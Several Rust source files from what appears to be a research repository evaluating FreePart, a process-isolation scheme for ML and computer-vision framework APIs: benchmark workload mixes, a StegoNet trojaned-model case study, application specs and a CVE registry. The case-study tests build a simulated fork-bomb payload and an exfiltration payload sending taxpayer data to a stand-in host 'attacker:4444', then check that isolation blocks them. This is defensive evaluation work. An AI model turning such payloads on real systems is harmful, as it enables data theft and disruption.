) -> bool {
    let path = format!("/mix/chat-{round}.simg");
    rt.kernel
        .fs
        .put(&path, fileio::encode_image(&frame(round, 8), None));
    let Some(loaded) = acall(rt, errors, "cv2.imread", &[Value::Str(path)]) else {
        return false;
    };
    // A short detection chain for the digest, then a Visualizing-state
    // canvas (`cv2.merge`) the draw loop may legally write — drawing on
    // an object defined in another framework state would trip temporal
    // write protection, as it should.
    let Some(gray) = acall(rt, errors, "cv2.cvtColor", &[loaded]) else {
        return false;
    };
    let Some(thresh) = acall(rt, errors, "cv2.threshold", &[gray]) else {
        return false;
    };
    detect(rt, errors, digest, &thresh, draws as f64);
    let Some(canvas) = acall(rt, errors, "cv2.merge", std::slice::from_ref(&thresh)) else {
        return false;
    };
    // The hot loop: every pair is Visualizing, so under a batch window
    // the whole burst coalesces; per-call payloads are a handful of
    // bytes, so shm promotion must never trigger here.
    for d in 0..draws {
        let x = ((d * 5 + round) % 7) as i64;
        acall(
            rt,
            errors,
            "cv2.rectangle",
            &[
                canvas.clone(),
                Value::I64(x),
                Value::I64(x),
                Value::I64(2),
                Value::I64(2),
            ],
        );
        acall(
            rt,
            errors,
            "cv2.putText",
            &[
                canvas.clone(),
                Value::from("x"),
                Value::I64(x),
                Value::I64(6),
            ],
        );
    }
    true
}

fn bulk_round(
    rt: &mut Runtime,
    errors: &mut Vec<CallError>,
    digest: &mut Vec<f64>,
    round: u32,
    side: u32,
) -> bool {
    let path = format!("/mix/bulk-{round}.simg");
    rt.kernel
        .fs
        .put(&path, fileio::encode_image(&frame(round, side), None));
    let Some(img) = acall(rt, errors, "cv2.imread", &[Value::Str(path)]) else {
        return false;
    };
    let Some(gray) = acall(rt, errors, "cv2.cvtColor", &[img]) else {
        return false;
    };
    let Some(smooth) = acall(rt, errors, "cv2.GaussianBlur", &[gray]) else {
        return false;
    };
    let Some(thresh) = acall(rt, errors, "cv2.threshold", &[smooth]) else {
        return false;
    };
    detect(rt, errors, digest, &thresh, 0.0);
    true
}

/// Runs `mix` through the asynchronous submission interface and
/// returns its policy-independent digest.
pub fn run_mix(rt: &mut Runtime, mix: &Mix) -> MixResult {
    let mut errors = Vec::new();
    let mut digest = Vec::new();
    let mut completed = 0;
    let mut round = 0u32;
    for (rounds, phase) in &mix.phases {
        for _ in 0..*rounds {
            rt.trace_mark(&format!("mix:{} round {round}", mix.name));
            let ok = match phase {
                MixPhase::Chatty { draws } => {
                    chatty_round(rt, &mut errors, &mut digest, round, *draws)
                }
                MixPhase::Bulk { side } => bulk_round(rt, &mut errors, &mut digest, round, *side),
            };
            if ok {
                completed += 1;
            }
            round += 1;
        }
    }
    rt.drain_inflight();
    MixResult {
        completed,
        digest,
        errors,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_frameworks::registry::standard_registry;

    /// Every mix produces the same digest under every policy preset —
    /// the transparency contract the bench bin builds on.
    #[test]
    fn mix_digests_are_policy_independent() {
        for mix in standard_mixes() {
            let mut reference: Option<MixResult> = None;
            for policy in [
                Policy::freepart(),
                Policy::without_ldc(),
                Policy::freepart_shm(),
                Policy::freepart_batched(),
                Policy::freepart_full(),
                Policy::freepart_adaptive(),
            ] {
                let mut rt = Runtime::install(standard_registry(), policy);
                let r = run_mix(&mut rt, &mix);
                assert!(r.errors.is_empty(), "{}: benign mix errored", mix.name);
                assert!(r.completed > 0, "{}: mix must actually run", mix.name);
                match &reference {
                    None => reference = Some(r),
                    Some(want) => {
                        assert_eq!(&r, want, "{}: digest depends on policy", mix.name)
                    }
                }
            }
        }
    }

    /// The controller reaches decision points and moves at least one
    /// knob on the phase-shifting mix — the workload built to force a
    /// mid-run re-decision.
    #[test]
    fn phase_shift_forces_a_live_decision() {
        let mix = standard_mixes()
            .into_iter()
            .find(|m| m.name == "phase-shift")
            .unwrap();
        let mut rt = Runtime::install(standard_registry(), Policy::freepart_adaptive());
        run_mix(&mut rt, &mix);
        let decisions = rt.tracer().policy_decisions();
        assert!(!decisions.is_empty(), "no decision points reached");
        assert!(
            decisions.iter().any(|d| d.changed),
            "controller never moved a knob across the phase shift"
        );
    }
}
