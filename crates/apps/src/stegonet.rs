//! The StegoNet trojan-model case study (paper §A.7).
//!
//! StegoNet hides a malicious payload (a fork bomb in the paper's
//! example) inside DNN model parameters; the payload detonates in
//! whatever process loads/executes the model. Two companion programs
//! carry sensitive data: a medical CT analyzer (patient name/age/phone)
//! and a tax-invoice OCR tool (taxpayer id, bank account).

use freepart_baselines::ApiSurface;
use freepart_frameworks::tensor::Tensor;
use freepart_frameworks::{fileio, ExploitPayload, ObjectId, Value};

/// Which companion program to run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StegoApp {
    /// CT-image medical analyzer with patient PII.
    MedicalCt,
    /// Tax-invoice OCR with financial PII.
    InvoiceOcr,
}

/// Session configuration.
#[derive(Debug, Clone)]
pub struct StegoConfig {
    /// Which host application.
    pub app: StegoApp,
    /// Inputs to process.
    pub inputs: u32,
    /// The trojaned model's payload, if attacking.
    pub trojan: Option<ExploitPayload>,
}

/// Session outcome.
#[derive(Debug)]
pub struct StegoResult {
    /// The sensitive host data object (patient / taxpayer record).
    pub pii: ObjectId,
    /// Its contents.
    pub pii_contents: Vec<u8>,
    /// Inputs fully classified.
    pub processed: u32,
}

/// Runs the case-study application.
pub fn run(surface: &mut dyn ApiSurface, cfg: &StegoConfig) -> StegoResult {
    let pii_contents: Vec<u8> = match cfg.app {
        StegoApp::MedicalCt => b"patient=Jane Doe;age=44;phone=555-0100".to_vec(),
        StegoApp::InvoiceOcr => b"taxpayer=TIN-998877;account=IBAN-XX12".to_vec(),
    };
    let pii = surface.host_data("sensitive-record", &pii_contents);
    surface.finish_setup();

    // The (possibly trojaned) model arrives as a file.
    let weights = Tensor::generate(&[64], |i| (i as f32 * 0.05).tanh());
    surface.kernel_mut().fs.put(
        "/models/classifier.stsr",
        fileio::encode_tensor(&weights, cfg.trojan.as_ref()),
    );
    let model = surface.call("torch.load", &[Value::from("/models/classifier.stsr")]);

    let mut processed = 0;
    if let Ok(model) = model {
        for i in 0..cfg.inputs {
            let ok = (|| -> Result<(), freepart::CallError> {
                let path = format!("/inputs/scan-{i}.simg");
                let img = freepart_frameworks::image::Image::new(16, 16, 1);
                surface
                    .kernel_mut()
                    .fs
                    .put(&path, fileio::encode_image(&img, None));
                let loaded = surface.call("cv2.imread", &[Value::Str(path)])?;
                let gray = surface.call("cv2.cvtColor", &[loaded])?;
                // Mat → tensor hand-off happens host-side in the real
                // programs; here the detector consumes the image and the
                // classifier the model.
                let _edges = surface.call("cv2.Canny", &[gray])?;
                let input = surface.call("torch.tensor", &[Value::I64(64)])?;
                let probs = surface.call("torch.nn.Module.forward", &[model.clone(), input])?;
                surface.call("torch.argmax", &[probs])?;
                Ok(())
            })();
            if ok.is_ok() {
                processed += 1;
            }
        }
    }
    StegoResult {
        pii,
        pii_contents,
        processed,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;
    use freepart_frameworks::ActionOutcome;

    #[test]
    fn benign_sessions_classify_everything() {
        for app in [StegoApp::MedicalCt, StegoApp::InvoiceOcr] {
            let mut rt = MonolithicRuntime::original(standard_registry());
            let r = run(
                &mut rt,
                &StegoConfig {
                    app,
                    inputs: 3,
                    trojan: None,
                },
            );
            assert_eq!(r.processed, 3);
        }
    }

    #[test]
    fn fork_bomb_detonates_in_original_blocked_by_freepart() {
        // Original: no filter — the fork bomb "succeeds".
        let mut rt = MonolithicRuntime::original(standard_registry());
        let cfg = StegoConfig {
            app: StegoApp::MedicalCt,
            inputs: 2,
            trojan: Some(payloads::stegonet_fork_bomb("CVE-2022-45907")),
        };
        run(&mut rt, &cfg);
        assert!(rt.exploit_log().last().unwrap().outcome.achieved());

        // FreePart: no agent's allowlist contains fork — SIGSYS.
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        // Warm the loading agent so its filter is sealed before the
        // trojaned model arrives.
        rt.kernel.fs.put(
            "/models/warm.stsr",
            fileio::encode_tensor(&Tensor::generate(&[4], |_| 0.0), None),
        );
        rt.call("torch.load", &[Value::from("/models/warm.stsr")])
            .unwrap();
        run(&mut rt, &cfg);
        assert!(matches!(
            rt.exploit_log.last().unwrap().outcome,
            ActionOutcome::SyscallKilled
        ));
        assert!(rt.kernel.is_running(rt.host_pid()), "host unharmed");
    }

    #[test]
    fn pii_exfiltration_blocked_under_freepart() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let addr = {
            let mut p = Runtime::install(standard_registry(), Policy::freepart());
            let r = run(
                &mut p,
                &StegoConfig {
                    app: StegoApp::InvoiceOcr,
                    inputs: 1,
                    trojan: None,
                },
            );
            p.objects.meta(r.pii).unwrap().buffer.unwrap().0
        };
        let cfg = StegoConfig {
            app: StegoApp::InvoiceOcr,
            inputs: 2,
            trojan: Some(payloads::exfiltrate(
                "CVE-2022-45907",
                addr.0,
                38,
                "attacker:4444",
            )),
        };
        let r = run(&mut rt, &cfg);
        let log = rt.exploit_log.clone();
        let (kernel, objects, host) = rt.attack_view();
        let v = judge(
            &AttackGoal::Exfiltrate {
                marker: b"TIN-998877".to_vec(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(v, Verdict::Prevented);
        let _ = r;
    }
}
