//! # freepart-apps — the evaluation applications
//!
//! * [`spec`] + [`driver`]: the 23 Table 6 applications as data-driven
//!   pipelines with exact per-type unique/total API call budgets,
//!   runnable under any isolation scheme via `ApiSurface`.
//! * [`omr`]: the OMRChecker motivating example (§3), hand-written,
//!   with its attack hooks.
//! * [`drone`], [`mcomix`], [`stegonet`]: the case studies of §5.4 and
//!   §A.7.
//! * [`pipeline`]: the pipelined (asynchronous, per-process virtual
//!   time) drone driver.
//! * [`batched`]: the batched-submission OMR and drone drivers
//!   (coalesced IPC frames, `Policy::batch_window`).
//! * [`mixes`]: the adversarial workload mixes behind the adaptive
//!   policy-controller benchmark.
//! * [`study`]: the 56-application survey corpus behind Study 1,
//!   Fig. 6, and Table 3.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod batched;
pub mod driver;
pub mod drone;
pub mod mcomix;
pub mod mixes;
pub mod omr;
pub mod pipeline;
pub mod spec;
pub mod stegonet;
pub mod storm;
pub mod study;
pub mod tenants;

pub use driver::{run_app, RunOptions, RunReport};
pub use spec::{by_id, resolve, AppSpec, ResolvedApp, TABLE6};
pub use study::{study_corpus, StudySketch};
