//! The 23 evaluation applications (paper Table 6).
//!
//! Each [`AppSpec`] carries the application's metadata and its per-type
//! **unique / total** framework-API call budget straight from Table 6.
//! [`resolve`] turns a spec into a concrete per-API call schedule over
//! the standard catalog: the first `unique` names from a curated
//! priority order (important APIs first), with the call total
//! distributed across them. Where a budget's unique count exceeds the
//! catalog's pool for that app's frameworks, the schedule caps at the
//! pool size and reports it — a documented deviation, not a silent one.

use freepart_frameworks::api::{ApiId, ApiRegistry, ApiType, Framework};
use std::collections::BTreeMap;

/// One Table 6 row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AppSpec {
    /// Sample id (Table 6 numbering, 1-based).
    pub id: u32,
    /// Project name.
    pub name: &'static str,
    /// Implementation language reported by the paper.
    pub lang: &'static str,
    /// Source lines of code reported by the paper.
    pub sloc: u32,
    /// Input-size column from the paper.
    pub size: &'static str,
    /// Frameworks the app links (main first).
    pub frameworks: &'static [Framework],
    /// (unique, total) data-loading API calls.
    pub loading: (u32, u32),
    /// (unique, total) data-processing API calls.
    pub processing: (u32, u32),
    /// (unique, total) visualizing API calls.
    pub visualizing: (u32, u32),
    /// (unique, total) storing API calls.
    pub storing: (u32, u32),
    /// One-line description.
    pub description: &'static str,
    /// True when the workload reads a camera rather than files.
    pub uses_camera: bool,
}

use Framework::{
    Caffe, Json, Keras, Matplotlib, NumPy, OpenCv, Pandas, Pillow, PyTorch, TensorFlow,
};

/// The 23 applications of Table 6.
pub const TABLE6: &[AppSpec] = &[
    AppSpec {
        id: 1,
        name: "Face_classification",
        lang: "Python",
        sloc: 7_082,
        size: "280K",
        frameworks: &[OpenCv, Keras, NumPy],
        loading: (4, 4),
        processing: (5, 10),
        visualizing: (4, 4),
        storing: (1, 1),
        description: "Face, emotion, gender detection",
        uses_camera: false,
    },
    AppSpec {
        id: 2,
        name: "FaceTracker",
        lang: "C/C++",
        sloc: 3_012,
        size: "588K",
        frameworks: &[OpenCv],
        loading: (2, 5),
        processing: (19, 99),
        visualizing: (3, 3),
        storing: (3, 6),
        description: "Real-time deformable face tracking",
        uses_camera: true,
    },
    AppSpec {
        id: 3,
        name: "Face_Recognition",
        lang: "Python",
        sloc: 3_205,
        size: "14.8M",
        frameworks: &[OpenCv, NumPy],
        loading: (1, 8),
        processing: (5, 26),
        visualizing: (3, 15),
        storing: (2, 3),
        description: "Face recognition application",
        uses_camera: false,
    },
    AppSpec {
        id: 4,
        name: "lbpcascade_anime",
        lang: "Python",
        sloc: 6_671,
        size: "224K",
        frameworks: &[OpenCv, Pillow],
        loading: (1, 1),
        processing: (4, 4),
        visualizing: (3, 3),
        storing: (1, 1),
        description: "Image classification/object detection",
        uses_camera: false,
    },
    AppSpec {
        id: 5,
        name: "EyeLike",
        lang: "C/C++",
        sloc: 742,
        size: "44K",
        frameworks: &[OpenCv],
        loading: (5, 5),
        processing: (21, 100),
        visualizing: (4, 18),
        storing: (1, 2),
        description: "Webcam based pupil tracking",
        uses_camera: true,
    },
    AppSpec {
        id: 6,
        name: "Video-to-ascii",
        lang: "Python",
        sloc: 483,
        size: "48K",
        frameworks: &[OpenCv],
        loading: (4, 7),
        processing: (2, 2),
        visualizing: (1, 1),
        storing: (0, 0),
        description: "Plays videos in terminal",
        uses_camera: false,
    },
    AppSpec {
        id: 7,
        name: "Libfacedetection",
        lang: "C/C++",
        sloc: 14_016,
        size: "8.8M",
        frameworks: &[OpenCv],
        loading: (4, 6),
        processing: (14, 62),
        visualizing: (4, 4),
        storing: (1, 1),
        description: "Library for face detection",
        uses_camera: false,
    },
    AppSpec {
        id: 8,
        name: "OMRChecker",
        lang: "Python",
        sloc: 1_797,
        size: "6.2M",
        frameworks: &[OpenCv, Pandas, Json, Matplotlib],
        loading: (2, 4),
        processing: (42, 88),
        visualizing: (4, 5),
        storing: (1, 1),
        description: "Grading application",
        uses_camera: false,
    },
    AppSpec {
        id: 9,
        name: "EmoRecon",
        lang: "Python",
        sloc: 1_773,
        size: "53K",
        frameworks: &[Caffe, OpenCv],
        loading: (6, 10),
        processing: (11, 32),
        visualizing: (5, 6),
        storing: (1, 1),
        description: "Real-time emotion recognition",
        uses_camera: true,
    },
    AppSpec {
        id: 10,
        name: "Openpose",
        lang: "C/C++",
        sloc: 459_373,
        size: "6.8M",
        frameworks: &[Caffe, OpenCv],
        loading: (10, 12),
        processing: (44, 171),
        visualizing: (0, 0),
        storing: (2, 2),
        description: "Real-time person keypoint detection",
        uses_camera: false,
    },
    AppSpec {
        id: 11,
        name: "MTCNN",
        lang: "Python",
        sloc: 425,
        size: "129K",
        frameworks: &[Caffe, OpenCv],
        loading: (1, 1),
        processing: (11, 18),
        visualizing: (0, 0),
        storing: (2, 2),
        description: "MTCNN face detector",
        uses_camera: false,
    },
    AppSpec {
        id: 12,
        name: "SiamMask",
        lang: "Python",
        sloc: 39_999,
        size: "1.4M",
        frameworks: &[PyTorch, OpenCv],
        loading: (2, 9),
        processing: (19, 103),
        visualizing: (4, 10),
        storing: (2, 11),
        description: "Object tracking and segmentation",
        uses_camera: false,
    },
    AppSpec {
        id: 13,
        name: "CycleGAN-and-pix2pix",
        lang: "Python",
        sloc: 1_963,
        size: "7.64M",
        frameworks: &[PyTorch, OpenCv, NumPy],
        loading: (5, 7),
        processing: (50, 103),
        visualizing: (0, 0),
        storing: (1, 2),
        description: "Image-to-image translation",
        uses_camera: false,
    },
    AppSpec {
        id: 14,
        name: "FAIRSEQ",
        lang: "Python",
        sloc: 39_800,
        size: "5.9M",
        frameworks: &[PyTorch, NumPy, Json],
        loading: (8, 19),
        processing: (20, 65),
        visualizing: (0, 0),
        storing: (4, 4),
        description: "Sequence modeling toolkit",
        uses_camera: false,
    },
    AppSpec {
        id: 15,
        name: "PyTorch-GAN",
        lang: "Python",
        sloc: 6_199,
        size: "31.1M",
        frameworks: &[PyTorch, NumPy],
        loading: (3, 105),
        processing: (41, 1_747),
        visualizing: (0, 0),
        storing: (1, 37),
        description: "PyTorch implementations of GANs",
        uses_camera: false,
    },
    AppSpec {
        id: 16,
        name: "YOLO-V3",
        lang: "Python",
        sloc: 2_759,
        size: "1.98M",
        frameworks: &[PyTorch, OpenCv, NumPy, Matplotlib],
        loading: (3, 9),
        processing: (68, 254),
        visualizing: (3, 3),
        storing: (2, 6),
        description: "PyTorch implementation of YOLOv3",
        uses_camera: false,
    },
    AppSpec {
        id: 17,
        name: "StarGAN",
        lang: "Python",
        sloc: 740,
        size: "2.07M",
        frameworks: &[PyTorch, NumPy],
        loading: (1, 2),
        processing: (32, 105),
        visualizing: (0, 0),
        storing: (1, 4),
        description: "PyTorch implementation of StarGAN",
        uses_camera: false,
    },
    AppSpec {
        id: 18,
        name: "EfficientNet-Pytorch",
        lang: "Python",
        sloc: 2_554,
        size: "2.48M",
        frameworks: &[PyTorch, Pillow, NumPy],
        loading: (4, 8),
        processing: (37, 86),
        visualizing: (0, 0),
        storing: (2, 2),
        description: "PyTorch implementation of EfficientNet",
        uses_camera: false,
    },
    AppSpec {
        id: 19,
        name: "Semantic-Segmentation",
        lang: "Python",
        sloc: 3_699,
        size: "5.53M",
        frameworks: &[PyTorch, OpenCv, NumPy, Matplotlib, Pillow],
        loading: (2, 2),
        processing: (136, 304),
        visualizing: (0, 0),
        storing: (1, 3),
        description: "Semantic segmentation/scene parsing",
        uses_camera: false,
    },
    AppSpec {
        id: 20,
        name: "DCGAN-Tensorflow",
        lang: "Python",
        sloc: 3_142,
        size: "67.4M",
        frameworks: &[TensorFlow, NumPy],
        loading: (3, 6),
        processing: (54, 137),
        visualizing: (0, 0),
        storing: (1, 1),
        description: "TensorFlow implementation of DCGAN",
        uses_camera: false,
    },
    AppSpec {
        id: 21,
        name: "See in the Dark",
        lang: "Python",
        sloc: 610,
        size: "836K",
        frameworks: &[TensorFlow, NumPy],
        loading: (1, 8),
        processing: (31, 244),
        visualizing: (0, 0),
        storing: (2, 10),
        description: "Learning-to-See-in-the-Dark (CVPR'18)",
        uses_camera: false,
    },
    AppSpec {
        id: 22,
        name: "CapsNet",
        lang: "Python",
        sloc: 679,
        size: "486K",
        frameworks: &[TensorFlow, NumPy],
        loading: (1, 8),
        processing: (43, 108),
        visualizing: (0, 0),
        storing: (4, 6),
        description: "TensorFlow implementation of CapsNet",
        uses_camera: false,
    },
    AppSpec {
        id: 23,
        name: "Style-Transfer",
        lang: "Python",
        sloc: 731,
        size: "1M",
        frameworks: &[TensorFlow, NumPy, Pillow],
        loading: (3, 4),
        processing: (37, 61),
        visualizing: (0, 0),
        storing: (3, 5),
        description: "Add styles from images to any photo",
        uses_camera: false,
    },
];

/// Looks up a Table 6 application by sample id.
pub fn by_id(id: u32) -> Option<&'static AppSpec> {
    TABLE6.iter().find(|a| a.id == id)
}

/// A concrete per-API schedule for one type.
#[derive(Debug, Clone, Default)]
pub struct TypeSchedule {
    /// `(api, total calls)` pairs; `len()` is the achieved unique count.
    pub calls: Vec<(ApiId, u32)>,
    /// The unique count Table 6 asked for (may exceed the pool).
    pub requested_unique: u32,
}

impl TypeSchedule {
    /// Total calls scheduled.
    pub fn total(&self) -> u32 {
        self.calls.iter().map(|(_, n)| n).sum()
    }

    /// Achieved unique count.
    pub fn unique(&self) -> usize {
        self.calls.len()
    }
}

/// A fully-resolved application: concrete APIs and call counts.
#[derive(Debug, Clone)]
pub struct ResolvedApp {
    /// The source spec.
    pub spec: &'static AppSpec,
    /// Per-type schedules.
    pub schedules: BTreeMap<ApiType, TypeSchedule>,
}

impl ResolvedApp {
    /// Every API the application touches.
    pub fn universe(&self) -> Vec<ApiId> {
        self.schedules
            .values()
            .flat_map(|s| s.calls.iter().map(|(id, _)| *id))
            .collect()
    }
}

/// Priority order for picking APIs of a type: the load-bearing names the
/// paper's examples use come first, the rest of the pool follows in
/// registry order.
fn priority(t: ApiType, camera: bool) -> &'static [&'static str] {
    match (t, camera) {
        (ApiType::DataLoading, true) => &[
            "cv2.VideoCapture",
            "cv2.VideoCapture.read",
            "cv2.imread",
            "cv2.CascadeClassifier.load",
            "caffe.ReadProtoFromTextFile",
            "torch.load",
        ],
        (ApiType::DataLoading, false) => &[
            "cv2.imread",
            "cv2.CascadeClassifier.load",
            "torch.load",
            "pd.read_csv",
            "json.load",
            "caffe.ReadProtoFromTextFile",
            "tf.keras.utils.get_file",
            "PIL.Image.open",
            "np.load",
        ],
        (ApiType::DataProcessing, _) => &[
            "cv2.cvtColor",
            "cv2.GaussianBlur",
            "cv2.resize",
            "cv2.equalizeHist",
            "cv2.CascadeClassifier.detectMultiScale",
            "cv2.rectangle",
            "cv2.putText",
            "cv2.erode",
            "cv2.morphologyEx",
            "cv2.Canny",
            "cv2.warpPerspective",
            "cv2.findContours",
            "cv2.threshold",
            "torch.tensor",
            "torch.nn.Conv2d",
            "torch.nn.ReLU",
            "torch.nn.MaxPool2d",
            "torch.matmul",
            "torch.softmax",
            "torch.argmax",
            "torch.nn.Module.forward",
            "torch.optim.SGD.step",
            "caffe.Net.Forward",
            "tf.nn.conv2d",
            "tf.nn.relu",
            "tf.nn.max_pool",
            "tf.nn.avg_pool",
            "tf.reshape",
            "tf.nn.softmax",
            "tf.matmul",
            "tf.keras.Model.fit",
            "keras.Model.predict",
            "np.dot",
        ],
        (ApiType::Visualizing, _) => &[
            "cv2.imshow",
            "cv2.pollKey",
            "cv2.namedWindow",
            "cv2.destroyAllWindows",
            "cv2.waitKey",
            "cv2.moveWindow",
            "cv2.setWindowTitle",
            "plt.show",
        ],
        (ApiType::Storing, _) => &[
            "cv2.imwrite",
            "torch.save",
            "tf.keras.Model.save_weights",
            "cv2.VideoWriter.write",
            "pd.DataFrame.to_csv",
            "caffe.WriteProtoToTextFile",
            "plt.savefig",
            "torch.utils.tensorboard.SummaryWriter",
        ],
    }
}

/// Resolves one spec against a registry.
pub fn resolve(spec: &'static AppSpec, reg: &ApiRegistry) -> ResolvedApp {
    let mut schedules = BTreeMap::new();
    for (t, (unique, total)) in [
        (ApiType::DataLoading, spec.loading),
        (ApiType::DataProcessing, spec.processing),
        (ApiType::Visualizing, spec.visualizing),
        (ApiType::Storing, spec.storing),
    ] {
        let mut picked: Vec<ApiId> = Vec::new();
        // Priority names first (restricted to the app's frameworks).
        for name in priority(t, spec.uses_camera) {
            if picked.len() as u32 >= unique {
                break;
            }
            if let Some(s) = reg.by_name(name) {
                if s.declared_type == t
                    && spec.frameworks.contains(&s.framework)
                    && !picked.contains(&s.id)
                {
                    picked.push(s.id);
                }
            }
        }
        // Fill from the pool in registry order.
        if (picked.len() as u32) < unique {
            for s in reg.iter() {
                if picked.len() as u32 >= unique {
                    break;
                }
                if s.declared_type == t
                    && spec.frameworks.contains(&s.framework)
                    && !picked.contains(&s.id)
                {
                    picked.push(s.id);
                }
            }
        }
        // Distribute the total across the picked APIs: the first API is
        // the hot one (real apps hammer one loader / one kernel), the
        // rest share the remainder evenly.
        let mut calls = Vec::new();
        if !picked.is_empty() && total > 0 {
            let n = picked.len() as u32;
            let base = total / n;
            let extra = total % n;
            for (i, id) in picked.iter().enumerate() {
                let c = base + u32::from((i as u32) < extra);
                if c > 0 {
                    calls.push((*id, c));
                }
            }
        }
        schedules.insert(
            t,
            TypeSchedule {
                calls,
                requested_unique: unique,
            },
        );
    }
    ResolvedApp { spec, schedules }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart_frameworks::registry::standard_registry;

    #[test]
    fn table6_has_23_apps_with_paper_metadata() {
        assert_eq!(TABLE6.len(), 23);
        let omr = by_id(8).unwrap();
        assert_eq!(omr.name, "OMRChecker");
        assert_eq!(omr.processing, (42, 88));
        let gan = by_id(15).unwrap();
        assert_eq!(gan.processing.1, 1_747);
        assert!(by_id(24).is_none());
    }

    #[test]
    fn resolution_hits_requested_totals() {
        let reg = standard_registry();
        for spec in TABLE6 {
            let resolved = resolve(spec, &reg);
            for (t, (unique, total)) in [
                (ApiType::DataLoading, spec.loading),
                (ApiType::DataProcessing, spec.processing),
                (ApiType::Visualizing, spec.visualizing),
                (ApiType::Storing, spec.storing),
            ] {
                let sched = &resolved.schedules[&t];
                assert_eq!(sched.total(), total, "{}: {t} total mismatch", spec.name);
                // Unique matches unless the pool capped it.
                if total >= unique {
                    assert!(
                        sched.unique() as u32 == unique || (sched.unique() as u32) < unique,
                        "{}: {t} unique overshoot",
                        spec.name
                    );
                }
            }
        }
    }

    #[test]
    fn most_apps_achieve_full_unique_counts() {
        let reg = standard_registry();
        let mut capped = 0;
        for spec in TABLE6 {
            let resolved = resolve(spec, &reg);
            for (t, (unique, _)) in [
                (ApiType::DataLoading, spec.loading),
                (ApiType::DataProcessing, spec.processing),
                (ApiType::Visualizing, spec.visualizing),
                (ApiType::Storing, spec.storing),
            ] {
                if (resolved.schedules[&t].unique() as u32) < unique {
                    capped += 1;
                }
            }
        }
        // A handful of very wide apps (e.g. 136 unique processing APIs)
        // exceed the catalog pool; everything else must resolve fully.
        assert!(capped <= 2, "{capped} schedules capped");
    }

    #[test]
    fn camera_apps_lead_with_videocapture() {
        let reg = standard_registry();
        let eyelike = resolve(by_id(5).unwrap(), &reg);
        let first = eyelike.schedules[&ApiType::DataLoading].calls[0].0;
        assert_eq!(reg.spec(first).name, "cv2.VideoCapture");
    }

    #[test]
    fn omr_uses_detectmultiscale_and_drawing() {
        let reg = standard_registry();
        let omr = resolve(by_id(8).unwrap(), &reg);
        let names: Vec<&str> = omr.schedules[&ApiType::DataProcessing]
            .calls
            .iter()
            .map(|(id, _)| reg.spec(*id).name.as_str())
            .collect();
        for n in [
            "cv2.rectangle",
            "cv2.putText",
            "cv2.warpPerspective",
            "cv2.morphologyEx",
        ] {
            assert!(names.contains(&n), "OMR missing {n}");
        }
    }
}
