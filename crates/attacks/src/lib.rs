//! # freepart-attacks — CVE registry, exploit payloads, attack verdicts
//!
//! The offensive half of the evaluation: the Table 5 CVE set wired to
//! the synthetic frameworks' vulnerable APIs, payload builders for the
//! attack classes (memory corruption, code rewriting, DoS,
//! exfiltration, StegoNet fork bomb), the Fig. 7 study dataset, and
//! ground-truth attack-outcome judgment.

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod cve;
pub mod judge;
pub mod payloads;
pub mod storm;
pub mod study;

pub use cve::{by_class, find, CveEntry, VulnClass, CASE_STUDY, TABLE5};
pub use judge::{judge, AttackGoal, Verdict};
pub use storm::{judge_storm, StormVerdicts, LATENCY_BOUND_FACTOR};
