//! The CVE registry used by the evaluation (paper Table 5) plus the
//! case-study CVEs.
//!
//! Each entry records the vulnerability class, the framework API it
//! lives in (which fixes the agent process it compromises), and the
//! evaluation-sample ids it affects — exactly the columns of Table 5.

use freepart_frameworks::api::ApiType;
use std::fmt;

/// Vulnerability classes, matching Table 5's grouping.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum VulnClass {
    /// Out-of-bounds / arbitrary memory write.
    UnauthorizedMemWrite,
    /// Information-disclosing memory read.
    UnauthorizedMemRead,
    /// Remote code execution.
    RemoteCodeExecution,
    /// Crash / hang.
    DenialOfService,
    /// Reads files it should not.
    UnauthorizedFileRead,
}

impl fmt::Display for VulnClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            VulnClass::UnauthorizedMemWrite => "Unauthorized Mem. Write",
            VulnClass::UnauthorizedMemRead => "Unauthorized Mem. Read",
            VulnClass::RemoteCodeExecution => "Remote Code Execution",
            VulnClass::DenialOfService => "Denial-of-Service (DoS)",
            VulnClass::UnauthorizedFileRead => "Unauthorized File Read",
        };
        f.write_str(s)
    }
}

/// One CVE usable by the attack harness.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CveEntry {
    /// The identifier (`CVE-2017-12597`, ...).
    pub id: &'static str,
    /// Vulnerability class.
    pub class: VulnClass,
    /// The qualified API name carrying the bug.
    pub api: &'static str,
    /// API type of the vulnerable function (Table 5's last column) —
    /// also the agent process the exploit lands in.
    pub api_type: ApiType,
    /// Evaluation sample ids affected (Table 6 numbering).
    pub samples: &'static [u32],
}

/// The 18 CVEs of Table 5.
pub const TABLE5: &[CveEntry] = &[
    // ---- unauthorized memory write (OpenCV imread family) ----
    CveEntry {
        id: "CVE-2017-12604",
        class: VulnClass::UnauthorizedMemWrite,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
        samples: &[1, 9, 10, 12],
    },
    CveEntry {
        id: "CVE-2017-12605",
        class: VulnClass::UnauthorizedMemWrite,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
        samples: &[1, 9, 10, 12],
    },
    CveEntry {
        id: "CVE-2017-12606",
        class: VulnClass::UnauthorizedMemWrite,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
        samples: &[1, 9, 10, 12],
    },
    CveEntry {
        id: "CVE-2017-12597",
        class: VulnClass::UnauthorizedMemWrite,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
        samples: &[1, 8, 9, 10, 12],
    },
    // ---- remote code execution ----
    CveEntry {
        id: "CVE-2017-17760",
        class: VulnClass::RemoteCodeExecution,
        api: "cv2.imread",
        api_type: ApiType::DataLoading,
